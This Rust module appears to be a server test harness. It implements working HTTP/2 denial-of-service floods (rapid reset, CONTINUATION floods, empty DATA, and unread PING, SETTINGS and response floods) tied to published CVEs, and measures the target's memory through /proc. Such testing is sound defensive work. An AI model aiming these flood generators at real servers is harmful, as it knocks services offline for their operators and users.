//! Floods over HTTP/2: many frames that cost the sender nothing, and the reader something each.

use std::{
    fs,
    io::{Read, Write},
    net::{Shutdown, SocketAddr},
    thread,
};

use super::frames::{self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS};
use crate::harness::client;

/// Frames, or pairs of frames, of a flood: some seconds' worth at full speed.
const FRAMES: u32 = 50_000;

/// Frames that are written at once.
const BATCH: u32 = 500;

/// A flood: what is sent first, and then over and over; the stream counts up.
pub struct Flood {
    pub name: &'static str,
    first: fn() -> Vec<u8>,
    again: fn(u32) -> Vec<u8>,
    /// Whether the sender reads what it is told.
    reads: bool,
    /// Whether it is read at a pace, instead of being ended.
    pub paced: bool,
}

fn request(stream: u32, flags: u8) -> Vec<u8> {
    frames::frame(HEADERS, flags, stream, &frames::request_block("POST", "/flood"))
}

/// All floods, by what was published of them: CVE-2023-44487, CVE-2024-27316, CVE-2019-9518, 9512, 9515, 9517.
pub fn all() -> Vec<Flood> {
    let nothing: fn() -> Vec<u8> = Vec::new;
    vec![
        Flood {
            name: "rapid reset",
            first: nothing,
            again: |n| {
                let stream = 2 * n + 1;
                [request(stream, END_HEADERS), frames::frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())]
                    .concat()
            },
            reads: true,
            paced: false,
        },
        Flood {
            name: "CONTINUATION without end",
            first: || request(1, 0),
            again: |n| frames::frame(CONTINUATION, 0, 1, &frames::field_block(&format!("x-{n}"), "y")),
            reads: true,
            paced: false,
        },
        Flood {
            name: "empty CONTINUATION",
            first: || request(1, 0),
            again: |_| frames::frame(CONTINUATION, 0, 1, &[]),
            reads: true,
            paced: false,
        },
        Flood {
            name: "empty DATA",
            first: || request(1, END_HEADERS),
            again: |_| frames::frame(DATA, 0, 1, &[]),
            reads: true,
            paced: true,
        },
        Flood {
            name: "PING, unread",
            first: nothing,
            again: |_| frames::frame(PING, 0, 0, &[0; 8]),
            reads: false,
            paced: true,
        },
        Flood {
            name: "SETTINGS, unread",
            first: nothing,
            again: |_| frames::frame(SETTINGS, 0, 0, &[]),
            reads: false,
            paced: true,
        },
        Flood {
            name: "answers, unread",
            first: nothing,
            again: |n| request(2 * n + 1, END_HEADERS | END_STREAM),
            reads: false,
            paced: false,
        },
    ]
}

/// Sends a flood to its end, or until the connection is ended. Says how many frames were taken.
pub fn send(to: SocketAddr, flood: &Flood) -> u32 {
    let Ok(mut stream) = client::connect(to) else { return 0 };
    let reader = flood.reads.then(|| {
        let mut stream = stream.try_clone().expect("a socket can be cloned");
        thread::spawn(move || {
            let mut piece = [0; 16 * 1024];
            while stream.read(&mut piece).is_ok_and(|read| read > 0) {}
        })
    });
    // One that does not read is stopped by the other side's full buffers: that is a good end, too.
    let _ = stream.set_write_timeout(Some(std::time::Duration::from_secs(2)));
    let mut taken = 0;
    if stream.write_all(&[frames::opening(), (flood.first)()].concat()).is_ok() {
        for batch in 0..FRAMES / BATCH {
            let bytes: Vec<u8> = (batch * BATCH..(batch + 1) * BATCH).flat_map(flood.again).collect();
            if stream.write_all(&bytes).is_err() {
                break;
            }
            taken += BATCH;
        }
    }
    let _ = stream.shutdown(Shutdown::Both);
    if let Some(reader) = reader {
        reader.join().expect("the reader ends with the connection");
    }
    taken
}

/// Memory of a process, in MiB.
pub fn resident_mib(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).expect("Linux says it");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).expect("it is resident");
    line.trim().trim_end_matches(" kB").trim().parse::<u64>().expect("a number") / 1024
}
